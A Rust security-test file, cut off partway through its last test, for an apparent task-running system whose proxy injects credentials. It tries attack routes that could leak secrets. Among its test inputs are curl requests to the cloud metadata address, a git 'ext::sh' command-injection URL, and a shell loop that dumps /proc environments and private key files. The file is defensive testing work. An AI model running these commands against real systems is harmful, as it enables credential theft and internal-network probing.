//! The threat model, tried as an attacker would: real brain and worker processes, real TLS
//! on loopback, and upstreams that log every byte they receive. Each test is one route by
//! which a task's command, an operator or a stolen backup could get a credential's value
//! (or send it where it was not meant to go); each asserts that the value — and its
//! percent, Base64 and JSON forms — reached nobody it must not reach. The commands' network
//! namespaces need a root worker; where there is none the tests say so.

use std::sync::{Arc, Mutex};

use base64::Engine as _;
use shared::locks::Lock;
use testkit::https::{Received, TestCa, Upstream};
use testkit::tasks::{
    Ran, egress_cluster, environs_holding, files_holding, have_netns, run_commands, set_api_secret,
    set_secret, try_start_commands,
};
use testkit::{BrainOptions, Cluster, text};

/// A value with characters every encoding changes: `/`, `"`, `+`, a space, `=`, `&`.
const SECRET: &str = "sk/li\"ve+7f3a 9c2e=51d8&4b06Q";
const API: &str = "api.upstream.test";
const OTHER: &str = "other.upstream.test";
const CURL: &str = "curl -sS --max-time 30";

/// Every form in which `value` could be read back: the bytes themselves, percent-encoded
/// (`+` or `%20` for a space, either case of hex), Base64 (standard and URL-safe, at each of
/// the three alignments inside a longer encoding), JSON-escaped (with `/` escaped or not), and
/// hex in either case.
fn forms(value: &str) -> Vec<String> {
    let v = value.as_bytes();
    let mut out = vec![value.to_string(), hex(v), hex(v).to_uppercase()];
    let plus: String = form_urlencoded::byte_serialize(v).collect();
    out.push(plus.clone());
    out.push(plus.replace('+', "%20"));
    out.push(plus.to_ascii_lowercase());
    for engine in [
        &base64::engine::general_purpose::STANDARD_NO_PAD,
        &base64::engine::general_purpose::URL_SAFE_NO_PAD,
    ] {
        for k in 0..3usize {
            let mut b = vec![0u8; k];
            b.extend_from_slice(v);
            let enc = engine.encode(&b);
            let (skip, end) = ((8 * k).div_ceil(6), (8 * b.len()) / 6);
            out.push(enc[skip..end].to_string());
        }
    }
    let json = serde_json::to_string(value).unwrap();
    let json = json[1..json.len() - 1].to_string();
    out.push(json.replace('/', "\\/"));
    out.push(json);
    out.sort();
    out.dedup();
    out
}

fn hex(v: &[u8]) -> String {
    v.iter().map(|b| format!("{b:02x}")).collect()
}

/// The forms of `value` found in `text`, and any 8-byte piece of the value itself.
fn leaks(text: &str, value: &str) -> Vec<String> {
    let mut found: Vec<String> = forms(value)
        .into_iter()
        .filter(|f| text.contains(f.as_str()))
        .collect();
    let v = value.as_bytes();
    for w in v.windows(8) {
        let w = String::from_utf8_lossy(w);
        if text.contains(w.as_ref()) {
            found.push(format!("piece {w:?}"));
        }
    }
    found
}

fn assert_no_leak(what: &str, text: &str) {
    let l = leaks(text, SECRET);
    assert!(l.is_empty(), "{what} holds the value as {l:?}:\n{text}");
}

/// The bearer token an upstream received, if any.
fn bearer(r: &Received) -> Option<String> {
    r.header("authorization")
        .and_then(|a| a.strip_prefix("Bearer "))
        .map(str::to_string)
}

/// What the command saw, and where the value must not be, after any attack.
fn assert_clean(c: &Cluster, w: &testkit::Worker, ran: &[Ran]) {
    for (i, r) in ran.iter().enumerate() {
        assert_no_leak(&format!("command {i} ({})", r.command), &r.told());
    }
    let secret = SECRET.as_bytes();
    assert_eq!(files_holding(&w.state, secret), Vec::<String>::new());
    assert_eq!(environs_holding(secret), Vec::<String>::new());
    assert_no_leak("the worker's log", &w.log_text());
    assert_no_leak("the brain's log", &c.brain_log());
}

/// Each of `ran` failed, told on its stderr that its egress was refused, and why (`why`).
fn assert_refused(ran: &[Ran], why: &str) {
    for (i, r) in ran.iter().enumerate() {
        assert_ne!(r.exit, Some(0), "command {i}: {r:#?}");
        assert!(
            r.stderr.contains("tether: egress refused") && r.told().contains(why),
            "command {i} is told why on its stderr: {r:#?}"
        );
    }
}

/// How the task a `brain run` started ended (it waits for that), if it started at all.
fn ending(c: &Cluster, run: &std::process::Output) -> Option<String> {
    run.status.success().then(|| {
        let task = String::from_utf8_lossy(&run.stdout).trim().to_string();
        c.wait_status(
            &task,
            &["finished", "failed", "stuck", "cancelled"],
            std::time::Duration::from_secs(120),
        )
    })
}

/// Route: the Host header is the command's. Behind a shared ingress the injected value
/// would reach whichever tenant the command names.
#[test]
fn a_command_cannot_send_the_credential_to_another_tenant_by_host() {
    if !have_netns() {
        return;
    }
    let ca = TestCa::new().unwrap();
    // A shared front: one certificate, tenants told apart by Host.
    let api = Upstream::start(
        &ca,
        &[API],
        Arc::new(|r: &Received| {
            let host = r.header("host").unwrap_or_default().to_string();
            (200, format!("tenant {host}").into_bytes())
        }),
    )
    .unwrap();
    let c = egress_cluster(&ca, &[API], "");
    let w = c.join_worker("host-attack");
    let pa = api.port;
    set_api_secret(&c, SECRET, API, pa);
    let commands = vec![
        // 0: another tenant's name in Host.
        format!(
            "{CURL} --fail-with-body -H 'Host: tenant-b.upstream.test' https://{API}:{pa}/whoami"
        ),
        // 1: an absolute-form request target naming another tenant.
        format!(
            "{CURL} --fail-with-body --request-target https://tenant-b.upstream.test/whoami https://{API}:{pa}/"
        ),
        // 2: the same host on another port in Host.
        format!("{CURL} --fail-with-body -H 'Host: {API}:1' https://{API}:{pa}/whoami"),
        // 3: the honest request.
        format!("{CURL} --fail-with-body https://{API}:{pa}/whoami"),
    ];
    let (_, ran) = run_commands(&c, &w.id, &["--secret", "api"], &commands);
    assert_refused(&ran[..3], "Host");
    assert_eq!(ran[3].exit, Some(0), "{:#?}", ran[3]);
    assert_eq!(ran[3].stdout, format!("tenant {API}:{pa}"), "{:#?}", ran[3]);
    let seen = api.seen();
    assert!(!seen.is_empty());
    for r in &seen {
        assert_eq!(
            r.header("host").map(str::to_ascii_lowercase),
            Some(format!("{API}:{pa}")),
            "every request that reached the upstream names the secret's host: {seen:#?}"
        );
    }
    assert_eq!(
        seen.iter().filter(|r| bearer(r).is_some()).count(),
        1,
        "{seen:#?}"
    );
    assert_clean(&c, &w, &ran);
}

/// Route: a placeholder anywhere becomes the value, so a command makes the server store it
/// under a name the command can read back another way (here: a host reached directly,
/// which the brain does not see).
#[test]
fn a_placeholder_outside_its_injection_is_refused_and_nothing_goes_upstream() {
    if !have_netns() {
        return;
    }
    let ca = TestCa::new().unwrap();
    let store: Arc<Mutex<Vec<String>>> = Arc::default();
    let keep = store.clone();
    let api = Upstream::start(
        &ca,
        &[API],
        Arc::new(move |r: &Received| {
            if r.path.starts_with("/files") {
                keep.locked().push(r.text());
            }
            (200, b"stored".to_vec())
        }),
    )
    .unwrap();
    let dump = store.clone();
    let other = Upstream::start(
        &ca,
        &[OTHER],
        Arc::new(move |_: &Received| (200, dump.locked().join("\n").into_bytes())),
    )
    .unwrap();
    let c = egress_cluster(&ca, &[API, OTHER], "");
    let w = c.join_worker("swap-attack");
    let (pa, pb) = (api.port, other.port);
    set_api_secret(&c, SECRET, API, pa);
    let t = "$API_TOKEN";
    let commands = vec![
        format!("{CURL} --fail-with-body -X PUT -d x https://{API}:{pa}/files/{t}"),
        format!("{CURL} --fail-with-body \"https://{API}:{pa}/files?name={t}\""),
        format!("{CURL} --fail-with-body -b \"session={t}\" https://{API}:{pa}/files"),
        format!("{CURL} --fail-with-body -A \"{t}\" https://{API}:{pa}/files"),
        format!("{CURL} --fail-with-body -H \"X-Note: {t}\" https://{API}:{pa}/files"),
        format!("{CURL} --fail-with-body -H \"Authorization: Basic {t}\" https://{API}:{pa}/files"),
        // Where the injection says: the Authorization header's bearer token.
        format!("{CURL} --fail-with-body -H \"Authorization: Bearer {t}\" https://{API}:{pa}/ok"),
        // The read-back, around the brain.
        format!("{CURL} -k https://{OTHER}:{pb}/dump"),
    ];
    let allow = format!("{OTHER}:{pb}");
    let (_, ran) = run_commands(
        &c,
        &w.id,
        &["--secret", "api", "--allow", &allow],
        &commands,
    );
    assert_refused(&ran[..6], "placeholder");
    assert_eq!(ran[6].exit, Some(0), "{:#?}", ran[6]);
    assert_eq!(ran[6].stdout, "stored", "{:#?}", ran[6]);
    // The read-back worked: it found nothing of the value to read.
    assert_eq!(ran[7].exit, Some(0), "{:#?}", ran[7]);
    let seen = api.seen();
    assert_eq!(
        seen.len(),
        1,
        "only the rightful request reached the upstream: {seen:#?}"
    );
    assert_eq!(bearer(&seen[0]).as_deref(), Some(SECRET));
    assert_clean(&c, &w, &ran);
}

/// Route: echoes slip past masking. The bound host answers with the value percent-encoded,
/// Base64-encoded, JSON-escaped, gzip-compressed though identity was asked for, a slice of
/// it for a `Range`, and in a trailer.
#[test]
fn an_echo_of_the_value_in_any_encoding_is_masked() {
    if !have_netns() {
        return;
    }
    use std::io::Write as _;
    let ca = TestCa::new().unwrap();
    let api = Upstream::start_raw(
        &ca,
        &[API],
        Arc::new(|r: &Received| {
            let value = bearer(r).unwrap_or_default();
            let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
            let pct: String = form_urlencoded::byte_serialize(value.as_bytes()).collect();
            let respond = |code: u16, extra: &str, body: &[u8]| {
                let mut out = format!(
                    "HTTP/1.1 {code} X\r\nContent-Type: text/plain\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .into_bytes();
                out.extend_from_slice(body);
                out
            };
            match r.path.as_str() {
                "/pct" => respond(200, &format!("Location: /next?t={pct}\r\n"), pct.as_bytes()),
                "/b64" => respond(
                    200,
                    "",
                    format!(
                        "{} {} {}",
                        b64(value.as_bytes()),
                        b64(format!("u:{value}").as_bytes()),
                        b64(format!("us:{value}").as_bytes())
                    )
                    .as_bytes(),
                ),
                "/json" => respond(
                    200,
                    "",
                    serde_json::json!({ "token": value }).to_string().as_bytes(),
                ),
                "/gzip" => {
                    let mut gz =
                        flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
                    gz.write_all(format!("token={value}").as_bytes()).unwrap();
                    respond(200, "Content-Encoding: gzip\r\n", &gz.finish().unwrap())
                }
                "/range" => {
                    let body = format!("token={value}");
                    match r.header("range") {
                        Some(_) => respond(
                            206,
                            &format!("Content-Range: bytes 8-17/{}\r\n", body.len()),
                            &body.as_bytes()[8..18],
                        ),
                        None => respond(200, "", body.as_bytes()),
                    }
                }
                "/trailer" => {
                    let body = b"hello";
                    let mut out = format!(
                        "HTTP/1.1 200 X\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\nConnection: close\r\n\r\n{:x}\r\n",
                        body.len()
                    )
                    .into_bytes();
                    out.extend_from_slice(body);
                    out.extend_from_slice(format!("\r\n0\r\nX-Echo: {value}\r\n\r\n").as_bytes());
                    out
                }
                _ => respond(404, "", b"no"),
            }
        }),
    )
    .unwrap();
    let c = egress_cluster(&ca, &[API], "");
    let w = c.join_worker("echo-attack");
    let pa = api.port;
    set_api_secret(&c, SECRET, API, pa);
    let u = format!("https://{API}:{pa}");
    let commands = vec![
        format!("{CURL} -D - {u}/pct"),
        format!("{CURL} {u}/b64"),
        format!("{CURL} {u}/json"),
        format!("{CURL} --compressed {u}/gzip"),
        format!("{CURL} -r 8-17 {u}/range"),
        format!("{CURL} -D - -H 'TE: trailers' {u}/trailer"),
        // Python reads a trailer-carrying answer its own way.
        format!(
            "python3 -c \"import urllib.request as u; r = u.urlopen('{u}/gzip'); print(r.read())\""
        ),
    ];
    let (_, ran) = run_commands(&c, &w.id, &["--secret", "api"], &commands);
    // The answers came (masked), not refusals.
    assert!(
        ran[0]
            .stdout
            .to_ascii_lowercase()
            .contains("location: /next?t="),
        "{:#?}",
        ran[0]
    );
    assert!(ran[2].stdout.contains("\"token\""), "{:#?}", ran[2]);
    assert!(ran[3].stdout.starts_with("token="), "{:#?}", ran[3]);
    assert!(ran[5].stdout.contains("hello"), "{:#?}", ran[5]);
    // The upstream did receive the value each time: the masking, not a refusal, kept it.
    let seen = api.seen();
    assert!(
        seen.iter()
            .filter(|r| bearer(r).as_deref() == Some(SECRET))
            .count()
            >= 6,
        "{seen:#?}"
    );
    assert!(
        seen.iter().all(|r| r.header("range").is_none()),
        "a Range is not forwarded on an injected request: {seen:#?}"
    );
    assert_clean(&c, &w, &ran);
}

/// Route 6 of the second round: an upstream's echo of the value got through in the status
/// line's reason phrase (forwarded as received), in a header's name, hex-encoded, and as a
/// gzip file served without `Content-Encoding` (the command gunzips it). Now the reason
/// phrase is the canonical one, names are masked like values, hex in any case is a masked
/// form, and a compressed file that holds the value is cut off before the part that does,
/// while one that does not passes byte for byte.
#[test]
fn an_echo_in_the_status_line_a_header_name_hex_or_a_compressed_file_is_kept_out() {
    if !have_netns() {
        return;
    }
    use std::io::Write as _;
    let ca = TestCa::new().unwrap();
    let gzip = |text: &[u8]| {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(text).unwrap();
        gz.finish().unwrap()
    };
    let tarball = gzip(&b"plain package contents\n".repeat(20_000));
    let tarball_sum = {
        use sha2::Digest as _;
        hex(&sha2::Sha256::digest(&tarball))
    };
    let served = tarball.clone();
    let api = Upstream::start_raw(
        &ca,
        &[API],
        Arc::new(move |r: &Received| {
            let value = bearer(r).unwrap_or_default();
            let respond = |status: &str, extra: &str, body: &[u8]| {
                let mut out = format!(
                    "HTTP/1.1 {status}\r\n{extra}Content-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .into_bytes();
                out.extend_from_slice(body);
                out
            };
            let hex_upper = hex(value.as_bytes()).to_uppercase();
            match r.path.as_str() {
                "/reason" => respond(&format!("200 {value}"), "", b"ok"),
                "/name" => respond("200 OK", &format!("X-Echo-{hex_upper}: 1\r\n"), b"ok"),
                "/hex" => respond(
                    "200 OK",
                    "",
                    format!("{} {hex_upper}", hex(value.as_bytes())).as_bytes(),
                ),
                "/gzfile" => respond(
                    "200 OK",
                    "Content-Type: application/gzip\r\n",
                    &gzip(format!("{}token={value}\n", "x".repeat(50_000)).as_bytes()),
                ),
                "/tarball" => respond("200 OK", "Content-Type: application/gzip\r\n", &served),
                _ => respond("404 Not Found", "", b"no"),
            }
        }),
    )
    .unwrap();
    let c = egress_cluster(&ca, &[API], "");
    let w = c.join_worker("echo-forms");
    let pa = api.port;
    set_api_secret(&c, SECRET, API, pa);
    let u = format!("https://{API}:{pa}");
    let commands = vec![
        format!("{CURL} -D - -o /dev/null {u}/reason"),
        format!("{CURL} -D - -o /dev/null {u}/name"),
        format!("{CURL} {u}/hex"),
        format!("{CURL} {u}/gzfile | gunzip | tail -c 200"),
        format!("{CURL} {u}/tarball | sha256sum"),
    ];
    let (_, ran) = run_commands(&c, &w.id, &["--secret", "api"], &commands);
    assert!(ran[0].stdout.contains("HTTP/1.1 200 OK"), "{:#?}", ran[0]);
    assert!(ran[1].stdout.contains("x-echo-"), "{:#?}", ran[1]);
    assert!(ran[2].stdout.contains("***"), "{:#?}", ran[2]);
    assert!(
        ran[3].stderr.contains("compressed file") && ran[3].stderr.contains("cut off"),
        "the command is told why its answer ends early: {:#?}",
        ran[3]
    );
    assert!(
        ran[4].stdout.contains(&tarball_sum),
        "a compressed file without the value reaches the command byte for byte: {:#?}",
        ran[4]
    );
    assert!(
        api.seen()
            .iter()
            .filter(|r| bearer(r).as_deref() == Some(SECRET))
            .count()
            >= 5
    );
    assert_clean(&c, &w, &ran);
}

/// Route 7 of the second round: inflation was bounded per connection (a frame at a time,
/// about 190 MiB of a bomb), not in total: twenty requests at once from one command took the
/// brain to 2.4 GiB. Now each answer inflates about 64 KiB at a time as the command reads,
/// and a task (and the brain) carries a bounded number of connections at once: twenty bombs
/// cost the brain a few MiB, and a command that opens more connections than a task may is
/// refused for those, in words.
#[test]
fn gzip_bombs_on_many_connections_cost_the_brain_little_memory() {
    if !have_netns() {
        return;
    }
    use std::io::Write as _;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let ca = TestCa::new().unwrap();
    // 256 MiB of zeros in about 250 KiB.
    let bomb = {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let zeros = vec![0u8; 1 << 20];
        for _ in 0..256 {
            gz.write_all(&zeros).unwrap();
        }
        gz.finish().unwrap()
    };
    let held = Arc::new(AtomicUsize::new(0));
    let holding = held.clone();
    let per_task = 32;
    let api = Upstream::start_raw(
        &ca,
        &[API],
        Arc::new(move |r: &Received| match r.path.as_str() {
            "/bomb" => {
                let mut out = format!(
                    "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    bomb.len()
                )
                .into_bytes();
                out.extend_from_slice(&bomb);
                out
            }
            "/hold" => {
                // Answers once as many as a task may open are here (or after 20 s).
                holding.fetch_add(1, Ordering::SeqCst);
                let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
                while holding.load(Ordering::SeqCst) < per_task && std::time::Instant::now() < until {
                    std::thread::sleep(std::time::Duration::from_millis(20));
                }
                b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nheld\n".to_vec()
            }
            _ => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(),
        }),
    )
    .unwrap();
    let c = egress_cluster(&ca, &[API], "");
    let w = c.join_worker("bombs");
    let pa = api.port;
    set_api_secret(&c, SECRET, API, pa);
    let u = format!("https://{API}:{pa}");
    let pid = c.brain.as_ref().unwrap().pid();
    // One request first, so that what the first one costs once (TLS set-up, the tunnel's
    // service) is not counted below.
    held.store(per_task, Ordering::SeqCst);
    run_commands(
        &c,
        &w.id,
        &["--secret", "api"],
        &[format!("{CURL} -o /dev/null {u}/hold")],
    );
    testkit::reset_peak(pid);
    let before = testkit::peak_rss(pid);
    let bombs =
        format!("for i in $(seq 20); do ({CURL} {u}/bomb | head -c 100000 | wc -c) & done; wait");
    let (_, ran) = run_commands(&c, &w.id, &["--secret", "api"], &[bombs]);
    let grew = testkit::peak_rss(pid).saturating_sub(before);
    eprintln!(
        "twenty gzip bombs at once: the brain's peak memory grew by {} MiB",
        grew >> 20
    );
    assert_eq!(
        ran[0].stdout.matches("100000").count(),
        20,
        "each command read what it asked for: {:#?}",
        ran[0]
    );
    assert!(
        grew < 100 << 20,
        "twenty bombs at once grew the brain by {} MiB",
        grew >> 20
    );
    // More connections at once than a task may hold: those beyond are refused, in words.
    held.store(0, Ordering::SeqCst);
    let many = format!(
        "for i in $(seq {}); do ({CURL} {u}/hold 2>&1 | head -c 300; echo) & done; wait",
        per_task + 8
    );
    let (_, ran) = run_commands(&c, &w.id, &["--secret", "api"], &[many]);
    let out = ran[0].told();
    assert_eq!(out.matches("held").count(), per_task, "{out}");
    assert!(
        out.matches("connections open through the brain").count() >= 8,
        "{out}"
    );
    assert_clean(&c, &w, &ran);
}

/// Route: a secret's seal bound only its name, so whoever hands over a backup (or can write
/// the store) rebinds it to a host of theirs. The record below is edited to name the
/// attacker's host, restored, and a task asks for it.
#[test]
fn a_backup_edited_to_rebind_a_secret_does_not_open() {
    if !have_netns() {
        return;
    }
    let ca = TestCa::new().unwrap();
    let api = Upstream::answering(&ca, &[API], "ok").unwrap();
    let evil = Upstream::answering(&ca, &[OTHER], "thanks").unwrap();
    let mut c = egress_cluster(&ca, &[API, OTHER], "");
    set_api_secret(&c, SECRET, API, api.port);
    let backup = c.dir.join("backup.jsonl");
    let out = c.brain_cli(&["backup", &backup.display().to_string()]);
    assert!(out.status.success(), "{}", text(&out));
    let mut edited = 0;
    let lines: Vec<String> = std::fs::read_to_string(&backup)
        .unwrap()
        .lines()
        .map(|l| {
            let mut line: serde_json::Value = serde_json::from_str(l).unwrap();
            if line["tree"] != "secrets" {
                return l.to_string();
            }
            let raw = hex::decode(line["value"].as_str().unwrap()).unwrap();
            let mut rec: serde_json::Value = serde_json::from_slice(&raw).unwrap();
            let info = if rec.get("info").is_some() {
                &mut rec["info"]
            } else {
                &mut rec
            };
            info["hosts"] = serde_json::json!([OTHER]);
            info["port"] = serde_json::json!(evil.port);
            edited += 1;
            line["value"] = hex::encode(serde_json::to_vec(&rec).unwrap()).into();
            line.to_string()
        })
        .collect();
    assert_eq!(edited, 1, "the backup holds the one secret");
    std::fs::write(&backup, lines.join("\n")).unwrap();
    c.kill_brain();
    let out = c.brain_cli(&["restore", &backup.display().to_string()]);
    assert!(out.status.success(), "{}", text(&out));
    c.start_brain().unwrap();
    let w = c.join_worker("rebind-attack");
    let listed = c.brain_cli(&["secret", "list"]);
    let pb = evil.port;
    let commands = [format!(
        "{CURL} -H \"Authorization: Bearer $API_TOKEN\" https://{OTHER}:{pb}/"
    )];
    // Either the task is refused at its start, or its command's request is refused.
    let run = try_start_commands(&c, &w.id, &["--secret", "api"], &commands, None);
    let mut told = format!("{}\n{}", text(&listed), text(&run));
    if let Some(end) = ending(&c, &run) {
        let task = String::from_utf8_lossy(&run.stdout).trim().to_string();
        told.push_str(&format!(
            "\n{end}\n{}",
            serde_json::to_string(&c.task_log_json(&task)).unwrap()
        ));
    }
    let seen = evil.seen();
    assert!(
        seen.iter().all(|r| leaks(&r.text(), SECRET).is_empty()),
        "the attacker's host received the value: {seen:#?}"
    );
    // The edited record is refused in words.
    assert!(
        told.contains("binding") || told.contains("seal"),
        "the refusal says why: {told}"
    );
    assert_no_leak("the brain's log", &c.brain_log());
}

#[test]
fn the_leak_finder_finds_every_form() {
    let v = "ab/c\"d+e f=g&h";
    let pct: String = form_urlencoded::byte_serialize(v.as_bytes()).collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("xy:{v}"));
    let json = serde_json::to_string(v).unwrap();
    for text in [
        format!("..{v}.."),
        format!("q={pct}&"),
        format!("Basic {b64}"),
        format!("{{\"t\":{json}}}"),
        v[2..10].to_string(),
    ] {
        assert!(!leaks(&text, v).is_empty(), "{text}");
    }
    assert!(leaks("nothing here at all", v).is_empty());
}

/// Route: the delivery token goes to any host a task names. An operator starts a task
/// whose `--git` URL is a server that answers 401 with `WWW-Authenticate: Basic`; the brain's
/// git asks its credential helper, which used to answer for any host and protocol.
#[test]
fn the_delivery_token_goes_to_no_host_it_is_not_for() {
    use testkit::git_server::{Auth, GitServer};
    const TOKEN: &str = "ghp_DELIVERYtoken0123456789abcdef";
    let token_seen = |server: &GitServer| -> Vec<String> {
        server
            .authorizations()
            .into_iter()
            .filter(|a| {
                let decoded = a
                    .strip_prefix("Basic ")
                    .and_then(|b| base64::engine::general_purpose::STANDARD.decode(b).ok())
                    .map(|d| String::from_utf8_lossy(&d).into_owned())
                    .unwrap_or_default();
                a.contains(TOKEN) || decoded.contains(TOKEN)
            })
            .collect()
    };
    let ca = TestCa::new().unwrap();
    let ca_file = std::env::temp_dir().join(format!(
        "tether-attacks-git-ca-{}-{:x}.pem",
        std::process::id(),
        rand::random::<u32>()
    ));
    std::fs::write(&ca_file, ca.pem()).unwrap();
    // The attacker's servers: one plain HTTP, one HTTPS with a certificate the brain trusts.
    let plain = GitServer::start("x", "not-the-token", Auth::All).unwrap();
    plain.create_repo("x", &[("README.md", "hi\n")]).unwrap();
    let mut tls = GitServer::start("x", "not-the-token", Auth::All).unwrap();
    tls.create_repo("x", &[("README.md", "hi\n")]).unwrap();
    tls.serve_tls(&ca).unwrap();
    let env = vec![
        ("TETHER_GIT_TOKEN".to_string(), TOKEN.to_string()),
        ("GIT_SSL_CAINFO".to_string(), ca_file.display().to_string()),
    ];
    // A task that only finishes: the clone at its start is what is tried.
    let run =
        |c: &Cluster, w: &str, url: &str| try_start_commands(c, w, &["--git", url], &[], None);

    // The default policy: only https and ssh, and no internal addresses.
    let c = Cluster::start_with(BrainOptions {
        config: Some("[deliver]\ngit_token_env = \"TETHER_GIT_TOKEN\"\n".into()),
        env: env.clone(),
        ..Default::default()
    });
    let w = c.join_worker("git-attack");
    for (url, says) in [
        (plain.url("x"), "http:// URLs are not allowed"),
        (tls.url("x"), "internal address"),
        ("file:///etc".to_string(), "local paths"),
        ("/etc".to_string(), "local paths"),
        (
            "ext::sh -c touch% /tmp/tether-ext-pwned".to_string(),
            "remote helpers",
        ),
        (
            "https://169.254.169.254/latest/meta-data.git".to_string(),
            "internal address",
        ),
    ] {
        let out = run(&c, &w.id, &url);
        assert!(!out.status.success(), "{url}: {}", text(&out));
        assert!(text(&out).contains(says), "{url}: {}", text(&out));
    }
    drop(c);

    // A brain that allows plain HTTP and internal hosts (for a git server of its own) still
    // gives its token only over https, and only to the hosts it is for.
    let c = Cluster::start_with(BrainOptions {
        config: Some(
            "[deliver]\ngit_token_env = \"TETHER_GIT_TOKEN\"\ngit_schemes = [\"https\", \"http\"]\n\
             git_internal_hosts = true\nhosts = [\"api.github.com\", \"github.com\"]\n"
                .into(),
        ),
        env,
        ..Default::default()
    });
    let w = c.join_worker("git-attack-2");
    for server in [&plain, &tls] {
        let out = run(&c, &w.id, &server.url("x"));
        assert_ne!(
            ending(&c, &out).as_deref(),
            Some("finished"),
            "the clone cannot have worked without credentials"
        );
        assert_eq!(
            token_seen(server),
            Vec::<String>::new(),
            "{} received the token: {:#?}",
            server.url("x"),
            server.requests()
        );
        assert!(
            !server.requests().is_empty(),
            "the brain did reach {} (the refusal is the helper's)",
            server.url("x")
        );
    }
    assert!(!std::path::Path::new("/tmp/tether-ext-pwned").exists());
    assert!(!c.brain_log().contains(TOKEN));
}

/// Route: direct egress is wider than it reads. A direct rule (`*`, or one host) used to be
/// dialled as the command asked: `*` reached the worker host's loopback and the metadata
/// address, and a CONNECT to the allowed name carried TLS for another (another tenant on
/// the same front).
#[test]
fn direct_egress_reaches_neither_internal_addresses_nor_another_name() {
    if !have_netns() {
        return;
    }
    const FRONT: &str = "front.upstream.test";
    // curl goes around a proxy for loopback names unless told not to.
    const VIA: &str = "-x \"$HTTPS_PROXY\" --noproxy ''";
    let ca = TestCa::new().unwrap();
    let api = Upstream::start(
        &ca,
        &[API, FRONT],
        Arc::new(|r: &Received| (200, format!("reached {}", r.path).into_bytes())),
    )
    .unwrap();
    // FRONT is pinned to loopback by the operator's [egress.resolve]: allowed by name.
    let c = egress_cluster(&ca, &[FRONT], "");
    let w = c.join_worker("direct-attack");
    let pa = api.port;
    let anything = [
        // 0: the worker host's loopback through `*`.
        format!("{CURL} {VIA} -k https://127.0.0.1:{pa}/loopback"),
        // 1: the same by a name that resolves there.
        format!("{CURL} {VIA} -k https://localhost:{pa}/localhost"),
        // 2: the cloud metadata address, plain HTTP.
        format!("{CURL} {VIA} --connect-timeout 5 http://169.254.169.254/latest/meta-data/"),
    ];
    let (_, ran) = run_commands(&c, &w.id, &["--allow", "*"], &anything);
    for (i, r) in ran.iter().enumerate() {
        assert!(!r.stdout.contains("reached"), "command {i}: {r:#?}");
        assert!(
            r.stderr.contains("tether: egress refused") && r.stderr.contains("internal address"),
            "command {i} is told why: {r:#?}"
        );
    }
    let front = format!("{FRONT}:{pa}");
    let one_name = [
        // 0: CONNECT to the allowed name, TLS for another.
        format!("{CURL} -k --connect-to {API}:{pa}:{FRONT}:{pa} https://{API}:{pa}/other"),
        // 1: CONNECT to the allowed name with no TLS at all.
        format!(
            "printf 'GET /raw HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n' | {CURL} -p -x \"$HTTPS_PROXY\" telnet://{FRONT}:{pa} --max-time 5"
        ),
        // 2: the honest request.
        format!("{CURL} -k https://{FRONT}:{pa}/front"),
    ];
    let (_, ran) = run_commands(&c, &w.id, &["--allow", &front], &one_name);
    for (i, r) in ran.iter().enumerate().take(2) {
        assert!(!r.stdout.contains("reached"), "command {i}: {r:#?}");
        assert!(
            r.stderr.contains("tether: egress refused"),
            "command {i} is told why: {r:#?}"
        );
    }
    assert!(
        ran[0].stderr.contains(API),
        "the refusal names the other name: {:#?}",
        ran[0]
    );
    assert_eq!(ran[2].stdout, "reached /front", "{:#?}", ran[2]);
    let seen: Vec<String> = api.seen().iter().map(|r| r.path.clone()).collect();
    assert_eq!(seen, ["/front"], "only the honest request arrived");
}

/// The `registries` preset is what it says: GET and HEAD, through the brain.
#[test]
fn the_registries_preset_is_read_only() {
    let rules = brain::model::egress::preset("registries").unwrap();
    assert!(!rules.is_empty());
    for r in &rules {
        assert!(
            !r.direct() && r.methods == ["GET", "HEAD"],
            "{r} is not read-only"
        );
    }
}

/// Route: a local worker's commands read the brain's keys. A brain that is not root starts
/// `local` workers as its own user; their commands then run as that user too, and could
/// read the data dir (the CA key, the store), the config file (an LLM key may be written
/// there), and the environments and memory of the brain and the worker
/// (`/proc/PID/environ`: `$TETHER_SECRET_KEY`, LLM and cloud keys). Run by root, the test
/// runs the brain as `nobody` to be that brain.
#[test]
fn a_local_workers_commands_read_none_of_the_brains_keys() {
    let sealing_key = "5ea1".repeat(16);
    let llm_key = "sk-ant-attack-2c9f7e41b8d3a605";
    let marker = "config-marker-7d1e93b2";
    let root = rustix::process::geteuid().is_root();
    let c = Cluster::start_with(BrainOptions {
        config: Some(format!("# {marker}\n[provision]\nreaper_every = \"1s\"\n")),
        env: vec![
            ("TETHER_SECRET_KEY".into(), sealing_key.clone()),
            ("ANTHROPIC_API_KEY".into(), llm_key.into()),
        ],
        run_as: root.then_some(65534),
        ..BrainOptions::default()
    });
    let out = c.brain_cli(&["provision", "local", "--name", "attacked"]);
    assert!(out.status.success(), "{}", text(&out));
    let data = c.data.display().to_string();
    let script = format!(
        "for f in /proc/[0-9]*/environ; do cat \"$f\"; echo; done 2>/dev/null; \
         for f in config.toml secrets.key ca.key server.key egress-ca.key admin/key.pem; do \
           cat {data}/$f 2>&1; done; ls -la {data} 2>&1; \
         find {data} -name '*.key' -exec cat {{}} + 2>&1; echo attack-done"
    );
    let out = c.brain_cli(&[
        "exec",
        "--workspace",
        "w",
        "attacked",
        "--",
        "sh",
        "-c",
        &script,
    ]);
    let seen = text(&out);
    assert!(
        seen.contains("attack-done"),
        "the command did not run: {seen}"
    );
    let read: Vec<&str> = [
        ("$TETHER_SECRET_KEY", sealing_key.as_str()),
        ("the LLM key", llm_key),
        ("the config file", marker),
        ("a private key", "PRIVATE KEY"),
    ]
    .into_iter()
